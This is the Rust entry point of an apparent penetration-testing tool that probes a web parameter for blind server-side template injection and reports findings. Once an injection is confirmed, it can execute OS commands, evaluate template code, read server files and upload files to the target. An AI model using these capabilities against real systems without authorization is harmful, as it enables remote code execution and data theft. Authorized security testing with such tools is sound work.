mod cli;
mod core;
mod engines;
mod http;
mod reporting;

use crate::core::prober::Prober;
use crate::core::state::{keys, TargetState};
use crate::http::channel::{parse_headers, HttpChannel};
use crate::reporting::model::Finding;
use crate::reporting::reporter::Reporter;
use clap::Parser;
use cli::args::{Cli, ReportFormat};
use reqwest::Method;
use tracing_subscriber::filter::LevelFilter;

const BANNER: &str = r#"
 ╔══════════════════════════════════════════════╗
 ║   _        _                 _               ║
 ║  | |_ _ __| |_ __  _ __ ___ | |__   ___      ║
 ║  | __| '_ \ | '_ \| '__/ _ \| '_ \ / _ \     ║
 ║  | |_| |_) | | |_) | | | (_) | |_) |  __/    ║
 ║   \__| .__/_| .__/|_|  \___/|_.__/ \___|     ║
 ║      |_|    |_|                              ║
 ║                                              ║
 ║   Blind template injection prober            ║
 ╚══════════════════════════════════════════════╝
"#;

#[tokio::main]
async fn main() -> anyhow::Result<()> {
    let cli = Cli::parse();

    if !cli.no_banner && !cli.quiet {
        println!("\x1b[36m{}\x1b[0m", BANNER);
    }

    let level = if cli.quiet {
        LevelFilter::WARN
    } else if cli.verbose {
        LevelFilter::DEBUG
    } else {
        LevelFilter::INFO
    };
    tracing_subscriber::fmt().with_max_level(level).init();

    let method = if cli.data.is_some() {
        Method::POST
    } else {
        cli.method.parse::<Method>().unwrap_or(Method::GET)
    };
    let channel = HttpChannel::new(
        &cli.url,
        &cli.param,
        method,
        cli.data.as_deref(),
        parse_headers(&cli.headers),
        cli.cookie.clone(),
        cli.rate,
    )?;

    tracing::info!("Probing {} (parameter '{}')", cli.url, cli.param);

    let mut state = TargetState::new();
    let registry = engines::registry();
    if let Some(only) = &cli.engine {
        if !registry.iter().any(|d| d.name == *only) {
            anyhow::bail!(
                "unknown engine '{}' (known engines: {})",
                only,
                engines::known_names().join(", ")
            );
        }
    }
    let mut confirmed = None;

    for descriptor in &registry {
        if let Some(only) = &cli.engine {
            if only != descriptor.name {
                continue;
            }
        }
        let mut prober = Prober::new(&channel, &mut state, descriptor, cli.level);
        prober.detect().await?;
        if state.get(keys::ENGINE) == Some(descriptor.name) {
            confirmed = Some(descriptor);
            break;
        }
    }

    let mut reporter = Reporter::new();
    match confirmed {
        Some(descriptor) => {
            let evidence = format!(
                "{}{}{}",
                state.get_or(keys::PREFIX, ""),
                descriptor.render_tag.masked("payload"),
                state.get_or(keys::SUFFIX, "")
            );
            let capabilities = [keys::EVAL, keys::EXEC, keys::WRITE, keys::READ]
                .iter()
                .filter(|k| state.is_set(k))
                .map(|k| k.to_string())
                .collect();
            reporter.add(Finding::template_injection(
                &cli.url,
                &cli.param,
                descriptor.name,
                descriptor.language,
                &evidence,
                capabilities,
            ));

            let mut prober = Prober::new(&channel, &mut state, descriptor, cli.level);
            if let Some(command) = &cli.os_cmd {
                match prober.execute(command).await? {
                    Some(output) => println!("{output}"),
                    None => tracing::warn!(
                        "{} has no command execution payload",
                        descriptor.name
                    ),
                }
            }
            if let Some(code) = &cli.tpl_code {
                match prober.evaluate(code).await? {
                    Some(output) => println!("{output}"),
                    None => tracing::warn!("{} has no evaluation payload", descriptor.name),
                }
            }
            if let Some(path) = &cli.read {
                match prober.read_file(path).await? {
                    Some(output) => println!("{output}"),
                    None => tracing::warn!("{} has no file read payload", descriptor.name),
                }
            }
            if let (Some(local), Some(dest)) = (&cli.upload, &cli.dest) {
                let data = std::fs::read_to_string(local)?;
                match prober.write_file(dest, &data).await? {
                    Some(_) => tracing::info!("Wrote {} to {}", local, dest),
                    None => tracing::warn!("{} has no file write payload", descriptor.name),
                }
            }
        }
        None => {
            if let Some(render_tag) = state.get(keys::RENDER_TAG) {
                reporter.add(Finding::weak_reflection(&cli.url, &cli.param, render_tag));
            }
        }
    }

    match cli.format {
        ReportFormat::Json => match &cli.output {
            Some(path) => reporting::json::write_to_file(reporter.findings(), path)?,
            None => println!("{}", reporting::json::render(reporter.findings())?),
        },
        ReportFormat::Text => {
            reporting::text::render(reporter.findings());
            if let Some(path) = &cli.output {
                reporting::json::write_to_file(reporter.findings(), path)?;
            }
        }
    }

    Ok(())
}
